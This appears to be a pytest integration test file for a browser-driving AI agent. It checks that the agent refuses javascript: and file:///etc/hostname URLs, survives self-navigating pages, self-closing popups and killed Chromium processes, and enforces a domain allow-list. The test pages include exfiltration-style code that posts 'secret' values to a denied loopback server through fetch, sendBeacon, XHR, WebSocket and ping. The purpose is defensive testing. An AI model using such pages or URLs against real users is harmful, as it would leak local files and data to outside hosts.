"""Hostile pages against the real controller (headless Chromium via `open_browser`) and
real HTTP servers on loopback ports: schemes a model must not open, pages that
navigate themselves while we settle, popups that close themselves, a browser or
renderer killed mid-action, and subresources that reach a denied origin."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from pathlib import Path

import psutil
import pytest

from pixelpilot.agent.loop import Agent, AgentConfig
from pixelpilot.agent.policy import Policy
from pixelpilot.environments import ControllerError, DomainPolicy, open_browser
from pixelpilot.environments.browser import BrowserEnvironment
from pixelpilot.tools import Click, Navigate, Point, Space, Wait
from pixelpilot.vlm.backends.scripted import ScriptedBackend
from tests.integration.test_browser_domains import Site

pytest.importorskip("playwright")

BUSY = (  # what settling looks at (the text's length) changes every frame: no settling
    "<title>busy</title><p id=p></p><script>const p = document.getElementById('p');"
    "(function grow() { p.textContent += 'x'; requestAnimationFrame(grow); })()</script>"
)


@pytest.fixture(scope="module")
def sites() -> Iterator[tuple[Site, Site]]:
    """Server one (allowed) and server two (denied; it counts every request)."""
    one, two = Site(), Site()
    yield one, two
    one.close()
    two.close()


@pytest.fixture
def fresh(sites) -> tuple[Site, Site]:
    for site in sites:
        site.requests.clear()
    return sites


def only(site: Site, **options) -> DomainPolicy:
    return DomainPolicy(allow=(f"127.0.0.1:{site.port}",), **options)


def middle_of(env, selector: str) -> Point:
    box = env.page.locator(selector).bounding_box()
    return Point(x=box["x"] + box["width"] / 2, y=box["y"] + box["height"] / 2,
                 space=Space.SCREENSHOT_PX)  # fmt: skip


# -- 14.5: schemes ---------------------------------------------------------------------
def test_a_model_cannot_open_javascript_or_file_urls(fresh) -> None:
    one, _ = fresh
    one.pages["/plain"] = "<title>plain</title><p>nothing here</p>"
    with open_browser(f"{one.url}/plain") as env:  # no domain policy at all (the CLI default)
        script = env.execute(Navigate(url='javascript:void(document.title="pwned")'))
        assert not script.ok and "javascript: URLs cannot be opened" in script.error
        assert env.page.title() == "plain"
        local = env.execute(Navigate(url="file:///etc/hostname"))
        assert not local.ok and "file: URLs cannot be opened" in local.error
        assert env.page.url == f"{one.url}/plain"
        for url in ("chrome://version", "data:text/html,<title>x</title>", "view-source:x"):
            assert not env.execute(Navigate(url=url)).ok, url
        assert env.execute(Navigate(url="about:blank")).ok and env.page.url == "about:blank"


def test_the_agent_refuses_them_as_feedback_and_goes_on(fresh, tmp_path) -> None:
    one, _ = fresh
    one.pages["/plain"] = "<title>plain</title><p>nothing here</p>"
    replies = ['NAVIGATE javascript:void(document.title="pwned")', "NAVIGATE file:///etc/hostname",
               "FINISH done"]  # fmt: skip
    with open_browser(f"{one.url}/plain") as env:
        backend = ScriptedBackend(replies)
        agent = Agent(backend, env, dialect="qwen2vl", config=AgentConfig(record=tmp_path))
        result = agent.run("look around")
        assert result.status == "success" and env.page.title() == "plain"
    told = " ".join(str(m) for m in backend.requests[-1])
    assert "javascript: URLs cannot be opened" in told and "file: URLs cannot be opened" in told
    hostname = Path("/etc/hostname").read_text().strip()
    assert hostname not in told.replace("file:///etc/hostname", "")
    assert Policy().check(Navigate(url="javascript:alert(1)")).verdict == "deny"
    assert Policy().check(Navigate(url=f"{one.url}/plain")).verdict == "allow"


# -- 15.2: every wait bounded ----------------------------------------------------------
@pytest.mark.timeout(180)
@pytest.mark.parametrize("target", ["denied", "allowed"])
def test_a_page_that_navigates_itself_while_we_settle_returns(fresh, target) -> None:
    one, two = fresh
    one.pages["/x"] = "<title>x</title>landed"
    where = f"{two.url}/x" if target == "denied" else f"{one.url}/x"
    one.pages["/go"] = f"<script>location='{where}'</script>"
    with open_browser("about:blank", domains=only(one)) as env:
        started = time.monotonic()
        shown = env.reset(options={"url": f"data:text/html,<script>location='{where}'</script>"})
        result = env.execute(Navigate(url=f"{one.url}/go"))
        seen = env.observe()
        took = time.monotonic() - started
    assert result.ok, result
    if target == "denied":
        assert "stopped drawing" in result.note and f"navigation to {where} was blocked" in (
            result.note
        )
        assert shown.url == seen.url == "about:blank"
        assert two.requests == []
    else:
        assert shown.url == seen.url == f"{one.url}/x" and seen.title == "x"
    assert took < 150  # over 14 minutes before; the figure is printed, not judged
    print(f"{target}: reset + navigate + observe in {took:.1f} s")


@pytest.mark.timeout(120)
def test_a_renderer_stuck_in_a_loop_is_a_controller_error(fresh) -> None:
    one, _ = fresh
    one.pages["/loop"] = "<title>loop</title><button>x</button>"
    with BrowserEnvironment(f"{one.url}/loop", settle_timeout_s=1.0) as env:
        env.page.evaluate("setTimeout(() => { while (true) {} }, 50)")
        env.page.wait_for_timeout(200)
        with pytest.raises(ControllerError, match="does not answer"):
            env.observe()
        result = env.execute(Click(point=Point(x=10, y=10, space=Space.SCREENSHOT_PX)))
        assert not result.ok and "did not answer" in result.error


# -- 14.8: popups that close themselves ------------------------------------------------
def test_a_popup_that_closes_itself_gives_a_result(fresh) -> None:
    one, _ = fresh
    one.pages["/closes"] = "<title>gone</title><script>window.close()</script>"
    one.pages["/opener"] = (
        "<title>opener</title><body style='margin:0'>"
        "<button id=a style='width:300px;height:60px' onclick=\"window.open('/closes')\">a</button>"
        "<button id=b style='width:300px;height:60px' "
        "onclick=\"window.open('about:blank').close()\">b</button>"
        "<button id=c style='width:300px;height:60px' onclick=\"const w = window.open('/x');"
        'setTimeout(() => w.close(), 300)">c</button></body>'
    )
    one.pages["/x"] = "<title>x</title>landed"
    with open_browser(f"{one.url}/opener") as env:
        for button in ("#a", "#b"):  # closed before the step settles: never shown
            result = env.execute(Click(point=middle_of(env, button)))
            assert result.ok, (button, result)
            assert env.page.url == f"{one.url}/opener" and not env.page.is_closed(), button
            assert env.observe().title == "opener"
            assert [p.url for p in env.context.pages] == [f"{one.url}/opener"]
        # #c's popup closes 300 ms later: open or not when the step settles (timing), once
        # it has closed the next step and observation show the opener, never a closed page
        assert env.execute(Click(point=middle_of(env, "#c"))).ok
        assert env.execute(Wait(seconds=1)).ok
        assert not env.page.is_closed()
        assert env.observe().title == "opener" and env.page.url == f"{one.url}/opener"


# -- 14.8 / 15.8: a browser or a renderer dying during settle --------------------------
def _chromium(kind: str) -> list[psutil.Process]:
    """Our own Chromium processes: the browser (kind 'browser') or its renderers."""
    found = []
    for child in psutil.Process().children(recursive=True):
        try:
            line = child.cmdline()
        except psutil.Error:
            continue
        if not line or "chrom" not in line[0]:
            continue
        renderer = "--type=renderer" in line
        if (kind == "renderer") == renderer and (renderer or not any("--type=" in a for a in line)):
            found.append(child)
    return found


def _kill_later(kind: str, delay_s: float, killed: list[int]) -> threading.Timer:
    """SIGKILL our Chromium browser (or its renderers) `delay_s` from now; their pids go
    to `killed`."""

    def kill() -> None:
        for process in _chromium(kind):
            process.kill()
            killed.append(process.pid)

    timer = threading.Timer(delay_s, kill)
    timer.start()
    return timer


@pytest.mark.timeout(120)
@pytest.mark.parametrize("kind", ["browser", "renderer"])
def test_chromium_killed_during_settle_is_a_controller_error(fresh, kind) -> None:
    one, _ = fresh
    one.pages["/busy"] = BUSY  # the title never stops changing: settle runs its full time
    env = BrowserEnvironment(f"{one.url}/busy", settle_timeout_s=6.0)
    try:
        assert _chromium(kind), "no Chromium process found to kill"
        killed: list[int] = []
        timer = _kill_later(kind, 1.0, killed)
        started = time.monotonic()
        with pytest.raises(ControllerError, match=r"gone|crashed"):
            env.execute(Click(point=Point(x=5, y=5, space=Space.SCREENSHOT_PX)))
        timer.join()
        assert killed and time.monotonic() - started < 6.0  # it died while settling
        with pytest.raises(ControllerError):
            env.observe()
    finally:
        env.close()


@pytest.mark.timeout(120)
def test_the_agent_ends_with_status_error_when_chromium_dies(fresh, tmp_path) -> None:
    one, _ = fresh
    one.pages["/busy"] = BUSY
    with BrowserEnvironment(f"{one.url}/busy", settle_timeout_s=3.0) as env:
        backend = ScriptedBackend(["CLICK <|box_start|>(10,10)<|box_end|>"] * 3)
        agent = Agent(backend, env, dialect="qwen2vl", config=AgentConfig(record=tmp_path))
        killed: list[int] = []
        timer = _kill_later("browser", 1.5, killed)
        result = agent.run("click")
        timer.join()
    assert killed and result.status == "error" and "ControllerError" in result.reason, result


# -- 15.1: the policy before the first request ------------------------------------------
def test_the_start_page_is_judged_before_any_request(fresh) -> None:
    one, two = fresh
    two.pages["/landing"] = "<title>two</title>"
    one.pages["/bounce"] = ("redirect", f"{two.url}/landing")
    with pytest.raises(ControllerError, match=r"start page: Navigation to .* was blocked"):
        open_browser(f"{two.url}/landing", domains=only(one))
    with pytest.raises(ControllerError, match=r"start page: .*A redirect to .* was blocked"):
        open_browser(f"{one.url}/bounce", domains=only(one))
    assert ("GET", "/bounce", "document") in one.requests and two.requests == []


def test_the_agent_handing_over_the_same_lists_keeps_a_strict_policy(fresh) -> None:
    one, _ = fresh
    one.pages["/plain"] = "<title>plain</title>"
    with open_browser(f"{one.url}/plain", domains=only(one, strict=True)) as env:
        Agent(ScriptedBackend([]), env, policy=Policy(allow_domains=(f"127.0.0.1:{one.port}",)))
        assert env._domains == only(one, strict=True)


# -- 15.12: subresources to a denied origin ------------------------------------------
def _noisy_page(two: Site) -> str:
    """Every kind of subresource a page can send to server two (and a redirect to it)."""
    other = two.url
    return f"""<!doctype html><title>noisy</title>
<link rel=stylesheet href="{other}/css"><link rel=prefetch href="{other}/prefetch">
<script src="{other}/script"></script><img src="{other}/img">
<a id=ping href="#here" ping="{other}/ping" style="display:block;height:60px">ping</a>
<script>
fetch("{other}/fetch", {{method: "POST", body: "secret=1", mode: "no-cors"}}).catch(() => {{}});
const x = new XMLHttpRequest(); x.open("GET", "{other}/xhr"); x.send();
navigator.sendBeacon("{other}/beacon", "secret=2");
try {{ new WebSocket("{other.replace("http", "ws")}/ws"); }} catch (e) {{}}
fetch("/to-two").catch(() => {{}});
</script>"""


@pytest.mark.timeout(180)
@pytest.mark.parametrize("strict", [False, True])
def test_strict_mode_keeps_every_subresource_from_a_denied_origin(fresh, strict) -> None:
    one, two = fresh
    one.pages["/noisy"] = _noisy_page(two)
    one.pages["/to-two"] = ("redirect", f"{two.url}/redirected")
    with open_browser(f"{one.url}/noisy", domains=only(one, strict=strict)) as env:
        result = env.execute(Click(point=middle_of(env, "#ping")))
        assert result.ok and env.execute(Wait(seconds=1)).ok
        assert env.observe().title == "noisy"
    paths = {path.split("?")[0] for _, path, _ in two.requests}
    if strict:
        assert paths == set(), two.requests
        assert result.note.endswith(f"blocked (strict mode): 127.0.0.1:{two.port}")  # the ping
    else:  # what the default allows, as README says
        expected = {"/css", "/script", "/img", "/ping", "/fetch", "/xhr", "/beacon", "/ws",
                    "/redirected"}  # fmt: skip
        assert expected <= paths, sorted(paths)
    print(f"strict={strict}: server two saw {sorted(paths)}")
